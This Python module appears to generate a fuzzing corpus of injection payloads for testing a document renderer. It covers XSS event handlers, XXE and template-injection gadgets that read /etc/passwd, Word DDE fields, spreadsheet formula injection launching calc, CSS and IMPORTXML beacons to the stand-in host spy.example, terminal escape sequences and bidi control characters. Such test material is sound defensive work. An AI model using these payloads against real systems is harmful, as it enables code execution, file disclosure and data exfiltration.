"""What somebody could write to make a document be more than text: families of attacks, put together with each other."""

from collections.abc import Iterator
from itertools import product

TARGETS = (
    "https://spy.example/x",
    "javascript:alert(1)",
    "data:text/html,x",
    "file:///etc/passwd",
    "//spy.example",
    "\\\\spy\\share",
)
TAGS = ("script", "img", "svg", "iframe", "object", "style", "link", "meta", "base", "form", "input", "a", "b", "p", "div", "main", "table", "td", "li", "h1", "blockquote", "template", "math", "details", "video", "body", "html", "head", "title", "textarea", "plaintext", "noscript", "xmp", "footer")  # fmt: skip
EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus autofocus tabindex=1",
    "onbegin",
    "ontoggle open",
    "onanimationstart",
    "onmouseover",
)
BREAKOUTS = (
    "",
    '"',
    "'",
    ">",
    "-->",
    "]]>",
    "</p>",
    "</main>",
    "</style>",
    "</script>",
    '">',
    "'>",
    "</title>",
    "</textarea>",
)
OUTER = ("{}", "\n{}", "x\n\n{}\n\nx", "> {}", "- {}", "1. {}", "    {}", "x {} y", "| {} |", "```\n{}\n```")


def _html() -> Iterator[str]:
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} {event}=alert(1)>"
    for tag, opening in product(TAGS, BREAKOUTS):
        yield f"{opening}<{tag}>x</{tag}>"
    for tag, target in product(("img src", "a href", "iframe src", "link rel=stylesheet href", "base href", "form action", "object data"), TARGETS):  # fmt: skip
        yield f"<{tag}='{target}'>"
    yield from ("<!-- x", "<!--x-->", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&lt;script&gt;", "&#60;b&#62;", "&#x3c;b&#x3e;", "&lt", "&amp;lt;", "&nbsp;", "&Tab;", "\x00<b>", "<\x00b>", "<b\x0c>", "<b\u2028>", "＜script＞")  # fmt: skip


def _css() -> Iterator[str]:
    for opening, target in product(BREAKOUTS, ("}", "*/", "\\22 ;", "\\a }", '";', "';")):
        yield f"{opening}{target} body {{ background: url(https://spy.example) }} /*"
    yield from (
        "@import 'https://spy.example';",
        "expression(alert(1))",
        "content: attr(x)",
        "\\000022",
        "url(x)",
        "@page { size: 1mm }",
    )


def _markdown() -> Iterator[str]:
    lines = ("# x", "## x ##", "###### x", "x\n===", "x\n---", "---", "***", "* * *", "___", "- x", "+ x", "* x", "1. x", "1) x", "007. x", "- [ ] x", "> x", ">> x", "```", "~~~", "```x\ny\n```", "    x", "\tx", "| a | b |\n|---|---|\n| c | d |", "a | b\n:-: | -:", "|", "\\|", "[a]: https://spy.example", "[^1]: x", "[^1]", "*[a]: x", ": x", "term\n: x", "---\ntitle: x\n---", "%%%", "::: {.x}\ny\n:::", "\\newpage", "<https://spy.example>", "<a@b.example>", "https://spy.example", "www.spy.example", "a@b.example", "x  \ny", "x\\\ny", "\\", "\\\\", "`x`", "``x`y``", "*x*", "**x**", "_x_", "__x__", "~~x~~", "~x~", "^x^", "==x==", "$x$", "$$x$$", "\\(x\\)", ":smile:", "[x]{.y}", "[x]{custom-style=Title}", "`x`{=openxml}", "`<w:p/>`{=openxml}", "```{=openxml}\n<w:p/>\n```", "```{=html}\n<b>\n```", "`#x`{=typst}", "[x][]", "[x][a]", "![x][a]", "![](x)", "![", "[", "]", "](", ")", "](x) [y](z", "|||", "||", "\\`", "&ast;", "{#x}", "{.x}", "<x", "x>")  # fmt: skip
    for line, outer in product(lines, OUTER):
        yield outer.replace("{}", line)
    for target, shape in product(TARGETS, ("[x]({})", "![x]({})", "[x](<{}>)", '[x]({} "y")', "<{}>", "[a]: {}\n\n[a]", "[![x]({})]({})", "x]({})", "**[x]({})")):  # fmt: skip
        yield shape.replace("{}", target)


def _templates() -> Iterator[str]:
    inner = (
        "7*7",
        "meta",
        "self.__init__.__globals__",
        "''.__class__.__mro__",
        "config",
        "cycler.__init__",
        "loop",
        "x|safe",
        "lipsum",
        "range(10**9)",
    )
    for (left, right), text in product(
        (("{{", "}}"), ("{%", "%}"), ("{#", "#}"), ("{{-", "-}}"), ("${", "}"), ("<%", "%>"), ("#{", "}")), inner
    ):
        yield f"{left} {text} {right}"
    yield from ("{% include '/etc/passwd' %}", "{% extends 'x' %}", "{% raw %}", "{% endraw %}", "{% endif %}", "{% import 'x' as y %}", "# for x in y", "## x", "{{", "}}", "{%", "%}", "{#", "#}", "{{ '{{' }}")  # fmt: skip


def _typst() -> Iterator[str]:
    commands = ('#read("/etc/passwd")', '#import "x.typ"', '#include "x.typ"', '#image("/etc/passwd")', "#pagebreak()", "#outline()", "#sys.inputs", "#set page(width: 1cm)", "#show: x => none", "#metadata(1)", '#link("https://spy.example")[x]', "#let x = 1", '#eval("1")', "#panic()", "#place(x)", '#pdf.attach("x")', "$x$", "$ x^2 $", "<label>", "@ref", "// x", "/* x */", "*/", "= x", "== x", "+ x", "/ x: y", "`x`", "\\u{41}", "~", "--", "---", "...", "-?", "'x'", '"x"', "]", "[", "#[", "]#", "#(", ")", "#{", "\\#x")  # fmt: skip
    for command, (before, after) in product(
        commands, (("", ""), ("]", "["), ('"', '"'), ("x ", " y"), ("\n", "\n"), ('\\"', ""))
    ):
        yield f"{before}{command}{after}"


def _word() -> Iterator[str]:
    parts = ("<w:br/>", "<w:p/>", "</w:t></w:r></w:p>", "<w:t>x</w:t>", "<w:fldSimple w:instr='DATE'/>", "<w:hyperlink r:id='rId1'/>", "<w:altChunk r:id='rId9'/>", "<w:object/>", "<w:sectPr/>", "<w:instrText>x</w:instrText>")  # fmt: skip
    fields = (
        "INCLUDETEXT",
        "INCLUDEPICTURE",
        "DDEAUTO",
        "DDE",
        "HYPERLINK",
        "IMPORT",
        "LINK",
        "MERGEFIELD",
        "MACROBUTTON",
        "PAGE",
    )
    for part, before in product(parts, ("", "</w:t>", "]]>", "&lt;", "x")):
        yield f"{before}{part}"
    for field, target in product(fields, TARGETS):
        yield f'{{ {field} "{target}" }}'
    yield from ("_x000D_", "_x0041_", "_x005F_x0041_", "&#x0;", "&#xD;", "&w;", "rId1", "{\\rtf1}", "\\field", "#N/A")


def _tables_and_calendars() -> Iterator[str]:
    for sign, formula in product(("=", "+", "-", "@", "\t=", "\r=", "|", "%", ";=", ",=", '"=', "'="), ("cmd|' /C calc'!A0", 'HYPERLINK("https://spy.example")', "1+1", 'IMPORTXML("https://spy.example")', "SUM(1)")):  # fmt: skip
        yield f"{sign}{formula}"
    for line, end in product(("BEGIN:VEVENT", "END:VEVENT", "END:VCALENDAR", "ATTENDEE:mailto:a@b.example", "ATTACH:https://spy.example", "SUMMARY:x", "BEGIN:VALARM", "X-A;B=C:D", "DTSTART:20260101", "RRULE:FREQ=SECONDLY"), ("\r\n", "\n", "\r\n ", "\\n", "\r", "\u2028", "\x85", "\x0b")):  # fmt: skip
        yield f"x{end}{line}{end}y"


def _screen() -> Iterator[str]:
    openings = ("\x1b[", "\x9b", "\x1b]", "\x9d", "\x1bP", "\x90", "\x1b_", "\x1b^", "\x1b")
    endings = (
        "31m",
        "2J",
        "1;1H",
        "6n",
        "?1049h",
        "0;x\x07",
        "8;;https://spy.example\x07x",
        "52;c;eA==\x07",
        "c",
        "x\x1b\\",
        "x\x9c",
        "\x18",
        "",
    )
    for opening, ending in product(openings, endings):
        yield f"{opening}{ending}"
    for sign in "\x00\x05\x07\x08\x0b\x0c\x0e\x0f\x11\x13\x1a\x7f\x80\x84\x85\x88\x8d\x9f\r":
        yield f"x{sign}y"
    yield from (
        "[red]x[/red]",
        "[link=https://spy.example]x[/link]",
        "[bold",
        "[/]",
        "\\[red]x",
        ":warning:",
        "[@click=x]y[/]",
    )


def _letters() -> Iterator[str]:
    for sign, inner in product("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029\u200b\ufeff\u00ad\u2060\u180e\ufff9\ufffb\U000e0041\ud800\udfff\ufffe", ("x{}y", "{}# x", "<{}b>")):  # fmt: skip
        yield inner.replace("{}", sign)


FAMILIES = {
    "html": _html,
    "css": _css,
    "markdown": _markdown,
    "templates": _templates,
    "typst": _typst,
    "word": _word,
    "tables and calendars": _tables_and_calendars,
    "screen": _screen,
    "letters": _letters,
}


def vectors() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(text for family in FAMILIES.values() for text in family()))
